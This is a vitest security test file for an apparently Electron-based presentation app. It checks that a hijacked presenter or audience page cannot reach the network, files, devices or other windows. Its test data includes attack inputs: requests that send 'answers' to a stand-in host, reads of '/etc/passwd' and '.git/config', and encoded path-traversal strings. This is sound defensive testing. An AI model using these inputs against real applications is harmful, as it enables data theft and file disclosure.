import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { contract, isMethod, type Method } from '../../../shared/ipc/contract.ts';
import { knownHome } from '../../bench/home.ts';
import { addScheme, toApp, toWeb } from '../../electron-stand-in/browser/origins.ts';
import { Report } from '../../reliability/report.ts';
import { eventually } from './at-work.ts';
import { handsOn } from './hands.ts';
import {
  type AppWindow,
  launchApp,
  noBrowser,
  type RunningApp,
  removeHome,
  temporaryHome,
} from './launch.ts';

addScheme('app');

/** Each is the source of a promise of what became of it: `refused`, unless the page got what it wanted. */
const attempts: Readonly<Record<string, string>> = {
  'fetch an address': "fetch('https://example.gov/').then(() => 'made', () => 'refused')",
  'fetch a file': "fetch('file:///etc/passwd').then(() => 'made', () => 'refused')",
  'fetch its own page': "fetch('/index.html').then(() => 'made', () => 'refused')",
  'ask in the old way': `new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.onload = () => resolve('made');
    request.onerror = () => resolve('refused');
    request.open('POST', 'https://example.gov/');
    request.send('answers');
  })`,
  'leave a word when it goes': `new Promise((resolve) => {
    document.addEventListener('securitypolicyviolation', () => resolve('refused'), { once: true });
    navigator.sendBeacon('https://example.gov/', 'answers');
    setTimeout(() => resolve('made'), 3000);
  })`,
  'open a socket': `new Promise((resolve) => {
    const socket = new WebSocket('wss://example.gov/');
    socket.onopen = () => resolve('made');
    socket.onerror = () => resolve('refused');
  })`,
  'listen to a server': `new Promise((resolve) => {
    const source = new EventSource('https://example.gov/');
    source.onopen = () => resolve('made');
    source.onerror = () => { source.close(); resolve('refused'); };
  })`,
  // Later, since a test's own words may do what the page's may not.
  'evaluate words': `new Promise((resolve) => setTimeout(() => {
    try { new Function('return 1')(); resolve('made'); } catch { resolve('refused'); }
  }))`,
  'run words within the page': `Promise.resolve().then(() => {
    document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.ran = 1' }));
    return window.ran === 1 ? 'made' : 'refused';
  })`,
  'import a script of its own making':
    "import('data:text/javascript,export default 1').then(() => 'made', () => 'refused')",
  'import a script of another': "import('https://example.gov/x.js').then(() => 'made', () => 'refused')",
  'start a worker': `new Promise((resolve) => {
    const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' })));
    worker.onmessage = () => resolve('made');
    worker.onerror = () => resolve('refused');
  }).catch(() => 'refused')`,
  'know where it is': `new Promise((resolve) =>
    navigator.geolocation.getCurrentPosition(() => resolve('made'), () => resolve('refused')))`,
  'hear and see': `navigator.mediaDevices.getUserMedia({ audio: true, video: true }).then(() => 'made', () => 'refused')`,
  'show notices of the system':
    "Notification.requestPermission().then((answer) => (answer === 'granted' ? 'made' : 'refused'))",
  'read the clipboard': "navigator.clipboard.readText().then(() => 'made', () => 'refused')",
};

/** Elements that load something, by where they name it. */
const loading = (make: string) => `new Promise((resolve) => {
  const element = ${make};
  element.onload = () => resolve('made');
  element.onerror = () => resolve('refused');
  document.head.append(element);
})`;
const element = (name: string, properties: object) =>
  loading(`Object.assign(document.createElement('${name}'), ${JSON.stringify(properties)})`);

/** Of the bundle's folder, its neighbor, and files of the system; in all the ways in which one can climb. */
const climbs = [
  '/../main/main.js',
  '/%2e%2e/main/main.js',
  '/..%2fmain/main.js',
  '/assets/..%5c..%5cmain%5cmain.js',
  '/assets/....//main.js',
  '/%252e%252e/main/main.js',
  '//etc/passwd',
  '/etc/passwd',
  '/index.html%00.js',
  '/../preload/preload.cjs',
  '/C:/Windows/win.ini',
  '/.git/config',
];

const elsewhere = [
  'https://example.gov/',
  'http://127.0.0.1/',
  'file:///etc/passwd',
  'data:text/html,<h1>other</h1>',
  "javascript:document.title='other'",
  'app://hisp.example/index.html',
  'app://hisp/other.html',
  'app://hisp/../main/main.js',
];

const permissions = ['media', 'geolocation', 'notifications', 'midi', 'hid', 'serial', 'usb', 'openExternal'];

/** What the audience's page may call; everything else is for the window with the workbook. */
const forAudience: readonly Method[] = ['audience.view', 'audience.move', 'attachment.picture'];

describe.skipIf(noBrowser !== undefined)('a page that was taken over', () => {
  const folder = temporaryHome();
  const report = new Report('requests of a page that was taken over');
  let app: RunningApp;
  let prototypes: readonly (readonly string[])[];

  const audience = async (): Promise<AppWindow | undefined> =>
    (await app.windows()).find(({ url }) => url.endsWith('#audience'));
  const presenter = async (): Promise<AppWindow | undefined> =>
    (await app.windows()).find(({ url }) => !url.endsWith('#audience'));

  beforeAll(async () => {
    app = await launchApp({ home: knownHome(folder), isProvoked: true });
    const { page } = await app.window();
    const second = { x: 1366, y: 0, width: 1280, height: 720 };
    await app.controls.setDisplays({ x: 0, y: 0, width: 1366, height: 768 }, second);
    const hands = handsOn(page);
    await page.getByRole('heading', { level: 1 }).waitFor();
    await hands.tabTo(/sample/i, 'button');
    await hands.press('Enter');
    await page.getByRole('heading', { level: 1, name: 'Where we stand' }).waitFor();
    await hands.goTo('rehearse and brief');
    await hands.tabTo(/^Begin the briefing/, 'button');
    await hands.press('Enter');
    await eventually(async () => expect(await audience()).toBeDefined());
    await (await audience())?.page.locator('h1').first().waitFor();
    expect(app.tried()).toEqual([]);
    prototypes = await app.controls.prototypeNames();
  });

  afterAll(async () => {
    report.write();
    await app.kill();
    removeHome(folder);
  });

  describe.each([
    ['with the workbook', presenter],
    ['for the audience', audience],
  ])('in the window %s', (_, find) => {
    async function inPage<T>(script: string): Promise<T> {
      const window = await find();
      if (window === undefined) throw new Error('there is no such window');
      return window.page.evaluate<T>(script);
    }

    async function expectStillThere(address: string | undefined): Promise<void> {
      const window = await find();
      expect(window?.page.url()).toBe(address);
      expect(await inPage("document.title === 'other'")).toBe(false);
    }

    it.each(Object.entries(attempts))('does not %s', async (_name, source) => {
      expect(
        await inPage(`Promise.race([
        Promise.resolve().then(() => ${source}),
        new Promise((resolve) => setTimeout(() => resolve('no answer'), 8000)),
      ]).catch(() => 'refused')`),
      ).toBe('refused');
      report.count('refused');
    });

    it('loads no picture, style, script or frame of another', async () => {
      for (const made of [
        element('img', { src: 'https://example.gov/x.png' }),
        element('link', { rel: 'stylesheet', href: 'https://example.gov/x.css' }),
        element('script', { src: 'https://example.gov/x.js' }),
        element('script', { src: 'data:text/javascript,1' }),
        element('script', { src: 'file:///etc/passwd' }),
      ]) {
        expect(await inPage(made)).toBe('refused');
        report.count('refused');
      }
      const frames = ['https://example.gov/', '/index.html', 'data:text/html,x', 'file:///etc/passwd'];
      await inPage(`void ${JSON.stringify(frames)}.forEach((src) =>
        document.body.append(Object.assign(document.createElement('iframe'), { src })))`);
      await inPage('new Promise((resolve) => setTimeout(resolve, 300))');
      const seen = `[...document.querySelectorAll('iframe')].map((frame) => {
        let seen;
        try { seen = frame.contentWindow.hisp ?? frame.contentDocument?.body?.textContent; } catch {}
        frame.remove();
        return seen ? 'made' : 'refused';
      })`;
      expect(await inPage(seen)).toEqual(frames.map(() => 'refused'));
      report.count('refused', frames.length);
    });

    it('gets nothing but the bundle from its own address, however it climbs', async () => {
      const [own] = await inPage<string[]>(
        "[...document.querySelectorAll('script[src]')].map(({ src }) => src)",
      );
      // What is refused below is refused for its path: the same element gets a file of the bundle.
      expect(await inPage(element('script', { src: own, type: 'module' }))).toBe('made');
      for (const climb of climbs) {
        expect([climb, await inPage(element('script', { src: climb }))]).toEqual([climb, 'refused']);
        report.count('refused');
      }
    });

    it('goes nowhere', async () => {
      const before = (await find())?.page.url();
      for (const address of elsewhere) {
        await inPage(`void (location.href = ${JSON.stringify(toWeb(address))})`).catch(() => undefined);
        await inPage('new Promise((resolve) => setTimeout(resolve, 150))');
        await expectStillThere(before);
        report.count('refused');
      }
      const refresh = { httpEquiv: 'refresh', content: '0;url=https://example.gov/' };
      await inPage(
        `void document.head.append(Object.assign(document.createElement('meta'), ${JSON.stringify(refresh)}))`,
      );
      await inPage(`(() => {
        const form = Object.assign(document.createElement('form'), { method: 'post', action: 'https://example.gov/' });
        document.body.append(form);
        form.submit();
      })()`);
      await inPage('new Promise((resolve) => setTimeout(resolve, 300))');
      await expectStillThere(before);
      report.count('refused', 2);
    });

    it('opens no window', async () => {
      const before = (await app.windows()).length;
      for (const address of [
        'https://example.gov/',
        'about:blank',
        toWeb('app://hisp/index.html'),
        'file:///etc',
      ]) {
        await inPage(`void window.open(${JSON.stringify(address)})`);
        const link = { href: address, target: '_blank', rel: 'noopener' };
        await inPage(`void Object.assign(document.createElement('a'), ${JSON.stringify(link)}).click()`);
        report.count('refused', 2);
      }
      await inPage('new Promise((resolve) => setTimeout(resolve, 500))');
      expect(await app.windows()).toHaveLength(before);
      expect((await find())?.page.context().pages()).toHaveLength(before);
    });

    it.each(permissions)('is denied %s by the program, not only by the browser', async (permission) => {
      const window = await find();
      const denied = { request: false, check: false, device: false };
      expect(await app.controls.askPermission(window?.id ?? 0, permission)).toEqual(denied);
      report.count('refused');
    });

    it('has nothing of Node, and no bridge in a frame of its own', async () => {
      expect(await inPage('Object.keys(window.hisp).sort()')).toEqual(['call', 'on']);
      expect(await inPage('[typeof require, typeof process, typeof module]')).toEqual(
        Array(3).fill('undefined'),
      );
      const inFrame = `(() => {
        const frame = document.body.appendChild(document.createElement('iframe'));
        const found = [typeof frame.contentWindow.hisp, typeof frame.contentWindow.require];
        frame.remove();
        return found;
      })()`;
      expect(await inPage(inFrame)).toEqual(['undefined', 'undefined']);
    });
  });

  it('calls from the audience’s window nothing but what that window is for', async () => {
    const window = await audience();
    for (const method of Object.keys(contract).filter(isMethod)) {
      const answer = await window?.page.evaluate(`window.hisp.call('${method}', {})`);
      if (forAudience.includes(method)) continue;
      expect([method, answer]).toEqual([
        method,
        { ok: false, error: expect.objectContaining({ code: 'wrong_call', method }) },
      ]);
      report.count('refused');
    }
    const picture =
      "window.hisp.call('attachment.picture', { attachment: '0198c0de-0000-7000-8000-000000000001' })";
    expect(await window?.page.evaluate(picture)).toMatchObject({ error: { code: 'attachment_missing' } });
  });

  it('is refused in the name of another frame, from the audience’s window too', async () => {
    const id = (await audience())?.id ?? 0;
    for (const from of [
      { url: 'https://example.gov/', within: false },
      { url: toApp((await audience())?.page.url() ?? ''), within: true },
    ])
      await expect(app.controls.callFrom(id, from, 'hisp:call', ['audience.view', {}])).rejects.toThrow(
        'refused',
      );
  });

  it('has left a briefing that goes on', async () => {
    const page = (await presenter())?.page;
    await page?.keyboard.press('ArrowRight');
    // Playwright may wait for the end of a journey that was refused, so the page itself is asked.
    const heading = "document.querySelector('h1')?.textContent";
    await eventually(async () => expect(await page?.evaluate(heading)).toBe('Briefing: Slide 2 of 12'));
    expect(await app.controls.prototypeNames()).toEqual(prototypes);
  });
});
